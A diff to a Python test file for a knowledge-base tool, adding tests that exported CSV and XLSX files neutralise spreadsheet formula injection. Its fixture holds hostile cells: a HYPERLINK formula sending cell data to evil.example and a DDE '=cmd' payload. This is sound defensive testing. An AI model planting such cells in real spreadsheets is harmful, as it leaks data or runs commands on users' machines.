@@ -2,10 +2,13 @@
 (SQLite and the real PostgreSQL): a KB file that names a server file, a billion-laughs YAML, nesting
 deep enough to exhaust a parser's stack, and cells that a spreadsheet would run as formulas. Each is
 refused with file, line and field (or neutralised), and a refused import leaves the draft as it was."""
+import csv
 import dataclasses
+import io
 import time
 
 import pytest
+import yaml
 from fastapi.testclient import TestClient
 from typer.testing import CliRunner
 
@@ -185,3 +188,55 @@ def test_nesting_the_parser_survives_is_refused_past_the_limit_too_and_accepted_
     result = CliRunner().invoke(cli, ["kb", "import", str(write("deep.yml", DEEP_FILES["kb.yml"])),
                                       "--db", str(tmp_path / "f.sqlite3")])
     assert result.exit_code == 2 and "deep.yml:4: nested deeper than 32 levels" in result.output
+
+
+# -- finding 4: formulas in exported spreadsheets ------------------------------------------------
+
+FORMULAS = {"question": '=HYPERLINK("http://evil.example/?d="&A1,"点我查看物流")', "answer": "+1 800 555 0100",
+            "similar": ["-2天内发货吗", "@SUM(1+1)", "'=不是公式的引号"], "category": "=cmd|'/c calc'!A0"}
+
+
+def test_exported_spreadsheets_hold_formulas_as_quoted_text_and_import_back_exactly(server):
+    from openpyxl import load_workbook
+
+    client, bench = server
+    created = client.post("/api/trainer/entries", json=dict(FORMULAS, id="evil"))
+    assert created.status_code == 201, created.text
+    before = _draft_state(bench)
+
+    exported = client.get("/api/trainer/export", params={"format": "csv"}).content.decode("utf-8")
+    row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["id"] == "evil")
+    assert row["question"] == "'" + FORMULAS["question"] and row["answer"] == "'+1 800 555 0100"
+    assert row["similar"].startswith("'-2天内") and row["category"].startswith("'=cmd")
+    assert not any(cell[:1] in "=+-@\t\r" for r in csv.reader(io.StringIO(exported)) for cell in r if cell)
+
+    workbook = client.get("/api/trainer/export", params={"format": "xlsx"}).content
+    sheet = load_workbook(io.BytesIO(workbook)).active
+    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line if cell.value]
+    assert cells and all(cell.data_type == "s" for cell in cells)  # text, not one formula
+    assert "'" + FORMULAS["question"] in [cell.value for cell in cells]
+
+    for filename, content in (("kb.csv", exported.encode("utf-8")), ("kb.xlsx", workbook)):
+        reimported = client.post("/api/trainer/import", params={"filename": filename}, content=content)
+        assert reimported.json() == {"added": 0, "changed": 0, "removed": 0}, reimported.text
+        assert _draft_state(bench)[1] == before[1]
+    evil = client.get("/api/trainer/entries/evil").json()
+    assert (evil["question"], evil["similar"][2]) == (FORMULAS["question"], "'=不是公式的引号")
+
+
+def test_a_hand_written_escaped_cell_imports_as_its_text_and_other_quotes_are_kept(write):
+    kb = load_kb(write("kb.csv", "id,question,answer\na,'=1+1,'Tis the season\nb,'-5度怎么办,''+x\n"))
+    assert (kb["a"].question, kb["a"].answer["default"]) == ("=1+1", "'Tis the season")
+    assert (kb["b"].question, kb["b"].answer["default"]) == ("-5度怎么办", "'+x")
+
+
+def test_the_cli_export_of_a_kb_with_formulas_round_trips_through_csv_and_xlsx(tmp_path):
+    from knowledge_base.writer import write_kb
+
+    source = tmp_path / "kb.yml"
+    source.write_text(yaml.safe_dump({"entries": [dict(FORMULAS, id="evil"), {"id": "ok", "question": "运费"}]},
+                                     allow_unicode=True), encoding="utf-8")
+    kb = load_kb(source)
+    for fmt in ("csv", "xlsx"):
+        write_kb(kb, tmp_path / f"out.{fmt}", fmt)
+        assert [e.to_dict() for e in load_kb(tmp_path / f"out.{fmt}")] == [e.to_dict() for e in kb]
